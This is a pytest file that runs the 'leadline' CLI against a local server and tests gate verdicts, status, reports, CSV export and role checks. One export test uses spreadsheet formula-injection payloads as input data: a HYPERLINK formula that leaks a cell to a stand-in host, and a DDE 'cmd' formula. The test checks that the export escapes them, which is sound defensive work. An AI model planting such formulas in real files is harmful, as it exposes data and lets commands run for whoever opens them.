"""The `leadline` command as a CI job runs it: a child process against a real server."""

from __future__ import annotations

import base64
import csv
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import matplotlib.image
import numpy as np
import pytest
from sklearn.metrics import zero_one_loss

from leadline.client import Client, LocalServer, Skip
from leadline.client.export import read_draws_csv
from leadline.v1 import leadline_pb2

from .conftest import ALL_ROLES_TOKEN, TOKENS, Digits, digits_pool, label_rounds, run_cli


def _gate(server: LocalServer, pool: str, max_risk: float, *extra: str):
    return run_cli(
        "gate",
        "--pool",
        pool,
        "--max-risk",
        repr(max_risk),
        "--confidence",
        "0.95",
        *extra,
        token=TOKENS["reader"],
        target=server.target,
    )


@pytest.mark.parametrize(
    ("bound", "verdict", "exit_code"),
    [
        ("anytime", "FAIL", 1),
        ("anytime", "PASS", 0),
        ("anytime", "UNDECIDED", 2),
        ("fixed-time", "FAIL", 1),
        ("fixed-time", "PASS", 0),
        ("fixed-time", "UNDECIDED", 2),
    ],
)
def test_gate_exit_code_tells_the_verdict(
    server: LocalServer,
    admin: Client,
    labeled_digits: Digits,
    bound: str,
    verdict: str,
    exit_code: int,
) -> None:
    est = admin.get_estimate(labeled_digits.pool, confidence=0.95)
    low, high = (
        (est.anytime_lower, est.anytime_upper) if bound == "anytime" else (est.lower, est.upper)
    )
    # Thresholds placed by the server's own interval: below it FAIL, above it PASS, at the
    # point estimate (inside it) UNDECIDED.
    max_risk = {"FAIL": low / 2, "PASS": (high + 1) / 2, "UNDECIDED": est.risk}[verdict]
    assert 0 < low < est.risk < high < 1
    done = _gate(server, labeled_digits.pool, max_risk, "--bound", bound)
    assert done.returncode == exit_code, done.stderr
    assert done.stdout.startswith(f"{verdict}: pools/digits, risk below {max_risk:g}?")


def test_gate_json_output_and_error_exit(server: LocalServer, labeled_digits: Digits) -> None:
    done = _gate(server, labeled_digits.pool, 0.999, "--json")
    assert done.returncode == 0
    result = json.loads(done.stdout)
    # Our own flat JSON: lower-case enum words and plain numbers (README "JSON output").
    assert result["verdict"] == "pass"
    assert result["bound"] == "anytime"
    assert result["labels_used"] == 200
    assert result["sides"] == "one-sided"
    assert result["upper"] < result["max_risk"] == 0.999
    missing = _gate(server, "no-such-pool", 0.5)
    assert missing.returncode == 3
    assert "NOT_FOUND" in missing.stderr


def test_status_shows_counts_surrogate_and_estimate(
    server: LocalServer, admin: Client, labeled_digits: Digits
) -> None:
    done = run_cli("status", "--pool", "digits", token=TOKENS["reader"], target=server.target)
    assert done.returncode == 0, done.stderr
    lines = dict(
        re.match(r"(\S+)\s+(.*)", line).groups()  # type: ignore[union-attr]
        for line in done.stdout.splitlines()
        if line and not line.startswith(("SEGMENT", "scanner"))
    )
    pool = admin.get_pool("digits")
    assert lines["pool"] == "pools/digits"
    assert lines["items"] == f"{len(labeled_digits.item_ids):,}"
    assert lines["draws"].startswith(f"{pool.draw_count:,} (labeled 200, pending 0, skipped 0)")
    assert lines["surrogate"] == (
        f"version {pool.surrogate_version}, fitted on {pool.surrogate_label_count:,} pool labels"
    )
    assert lines["validation"] == "none"
    est = admin.get_estimate("digits")
    assert lines["estimate"].startswith(f"{est.risk:.4f} ± {(est.upper - est.lower) / 2:.4f}")
    assert "scanner-a" in done.stdout
    assert "scanner-b" in done.stdout


@pytest.mark.usefixtures("labeled_digits")
def test_report_writes_png_and_html_with_the_figures(server: LocalServer, tmp_path: Path) -> None:
    done = run_cli(
        "report",
        "--pool",
        "digits",
        "--out",
        str(tmp_path),
        "--max-risk",
        "0.5",
        token=TOKENS["reader"],
        target=server.target,
    )
    assert done.returncode == 0, done.stderr
    png, page = tmp_path / "digits.png", (tmp_path / "digits.html").read_text()
    assert matplotlib.image.imread(png).shape[0] > 200
    images = re.findall(r'src="data:image/png;base64,([A-Za-z0-9+/=]+)"', page)
    assert len(images) == 3
    assert all(base64.b64decode(i).startswith(b"\x89PNG\r\n\x1a\n") for i in images)
    for scope in ("whole pool", "scanner-a", "scanner-b"):
        assert f"<tr><td>{scope}</td>" in page


def test_export_round_trips_the_draws_and_their_losses(
    server: LocalServer, admin: Client, labeled_digits: Digits, tmp_path: Path
) -> None:
    out = tmp_path / "draws.csv"
    done = run_cli(
        "export",
        "--pool",
        "digits",
        "--out",
        str(out),
        token=TOKENS["reader"],
        target=server.target,
    )
    assert done.returncode == 0, done.stderr
    exported = read_draws_csv(out)
    assert exported == admin.list_draws("digits", page_size=37)  # several pages
    labeled = [d for d in exported if d.status == leadline_pb2.DRAW_STATUS_LABELED]
    assert len(labeled) == 200
    index = {item_id: i for i, item_id in enumerate(labeled_digits.item_ids)}
    rows = np.array([index[d.item_id] for d in labeled])
    # The exported label is the bundled one and the loss is scikit-learn's zero_one_loss of
    # the model's prediction, item by item.
    truth = labeled_digits.labels[rows]
    np.testing.assert_array_equal([d.class_label for d in labeled], truth)
    predicted = labeled_digits.probabilities[rows].argmax(axis=1)
    expected_loss = [
        zero_one_loss(truth[i : i + 1], predicted[i : i + 1]) for i in range(len(labeled))
    ]
    np.testing.assert_array_equal([d.loss for d in labeled], expected_loss)


def test_export_writes_labeler_names_and_skip_reasons_as_text_not_formulas(
    server: LocalServer, admin: Client, tmp_path: Path
) -> None:
    """A vendor names itself and its skip reasons like spreadsheet formulas (OWASP "CSV
    Injection" examples); the exported cells start with ' and read back unchanged."""
    data = digits_pool("formulas")
    admin.create_pool(
        data.pool, task="classification", num_classes=10, feature_dim=64, loss="zero-one"
    )
    admin.ingest(data.pool, data.item_ids[:20], data.features[:20], data.probabilities[:20])
    labeler = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
    reason = "=cmd|' /C calc'!A0"
    held = admin.acquire(data.pool, 2, labeler=labeler)
    admin.submit_labels(data.pool, {held[0].assignment_id: Skip(reason)}, labeler=labeler)
    out = tmp_path / "formulas.csv"
    done = run_cli(
        "export",
        "--pool",
        data.pool,
        "--out",
        str(out),
        token=TOKENS["reader"],
        target=server.target,
    )
    assert done.returncode == 0, done.stderr
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["labeler"] for row in rows} == {"'" + labeler}
    assert [row["skip_reason"] for row in rows if row["skip_reason"]] == ["'" + reason]
    exported = read_draws_csv(out)
    assert {d.labeler for d in exported} == {labeler}
    assert [d.skip_reason for d in exported if d.skip_reason] == [reason]
    admin.delete_pool(data.pool)


def test_pool_create_list_show_delete(server: LocalServer) -> None:
    def cli(*args: str):
        return run_cli("pool", *args, token=TOKENS["admin"], target=server.target)

    created = cli(
        "create",
        "--pool",
        "cli-pool",
        "--task",
        "regression",
        "--features",
        "3",
        "--loss",
        "squared-error",
        "--loss-cap",
        "4",
        "--description",
        "made by the CLI",
    )
    assert created.returncode == 0, created.stderr
    assert created.stdout.strip() == "created pools/cli-pool"
    again = cli(
        "create",
        "--pool",
        "cli-pool",
        "--task",
        "regression",
        "--features",
        "3",
        "--loss",
        "squared-error",
        "--loss-cap",
        "4",
    )
    assert again.returncode == 3
    assert "ALREADY_EXISTS" in again.stderr
    listing = cli("list")
    assert re.search(
        r"^pools/cli-pool\s+regression\s+squared-error\s+0\s+0\s+v0$", listing.stdout, re.MULTILINE
    ), listing.stdout
    empty = run_cli("status", "--pool", "cli-pool", token=TOKENS["reader"], target=server.target)
    assert empty.returncode == 0, empty.stderr
    assert re.search(r"^estimate\s+none yet: the pool has no items$", empty.stdout, re.MULTILINE)
    shown = cli("show", "--pool", "pools/cli-pool", "--json")
    assert json.loads(shown.stdout)["loss_cap"] == 4.0
    deleted = cli("delete", "--pool", "cli-pool", "--yes")
    assert deleted.returncode == 0
    assert deleted.stdout.strip() == "deleted pools/cli-pool"
    assert cli("show", "--pool", "cli-pool").returncode == 3


@pytest.mark.parametrize(
    ("token", "code"),
    [
        (None, "UNAUTHENTICATED"),
        ("not-a-token", "UNAUTHENTICATED"),
        (TOKENS["reader"], "PERMISSION_DENIED"),
    ],
)
def test_tokens_and_roles_are_enforced(server: LocalServer, token: str | None, code: str) -> None:
    done = run_cli(
        "pool",
        "create",
        "--pool",
        "denied",
        "--task",
        "classification",
        "--classes",
        "2",
        "--features",
        "1",
        "--loss",
        "zero-one",
        token=token,
        target=server.target,
    )
    assert done.returncode == 3
    assert done.stderr.startswith(f"leadline pool create: {code}: ")


def test_console_script_is_installed_and_forwards_serve_help() -> None:
    script = Path(sys.executable).parent / "leadline"
    done = subprocess.run(
        [str(script), "serve", "--help"], capture_output=True, text=True, check=False, timeout=60
    )
    assert done.returncode == 0
    assert done.stdout.startswith("usage: leadline serve")


@pytest.mark.usefixtures("labeled_digits")
def test_all_roles_token_is_accepted(server: LocalServer) -> None:
    done = run_cli("pool", "list", "--json", token=ALL_ROLES_TOKEN, target=server.target)
    assert done.returncode == 0
    assert "pools/digits" in [p["name"] for p in json.loads(done.stdout)]


def test_gate_wait_polls_until_labels_decide_it(server: LocalServer, admin: Client) -> None:
    data = digits_pool("waiting-gate")
    admin.create_pool(
        data.pool, task="classification", num_classes=10, feature_dim=64, loss="zero-one"
    )
    admin.ingest(data.pool, data.item_ids, data.features, data.probabilities)
    env = {k: v for k, v in os.environ.items() if not k.startswith("LEADLINE_")}
    env |= {"LEADLINE_TOKEN": TOKENS["reader"], "LEADLINE_TARGET": server.target}
    gate = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "leadline.client.cli",
            "gate",
            "--pool",
            data.pool,
            "--max-risk",
            "0.9",
            "--wait",
            "90",
            "--interval",
            "0.3",
            "-v",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        # The gate starts UNDECIDED (no labels yet) and says so before polling again.
        assert gate.stderr is not None
        first = gate.stderr.readline()
        assert "undecided: 0 labels" in first, first + gate.communicate()[1]
        for _ in range(16):  # labels arrive while the gate keeps polling
            label_rounds(admin, data, rounds=1, per_round=25)
            if gate.poll() is not None:
                break
            time.sleep(0.3)
        out, err = gate.communicate(timeout=90)
    finally:
        gate.kill()
    assert gate.returncode == 0, out + err
    assert out.startswith("PASS: pools/waiting-gate, risk below 0.9?")
    admin.delete_pool(data.pool)
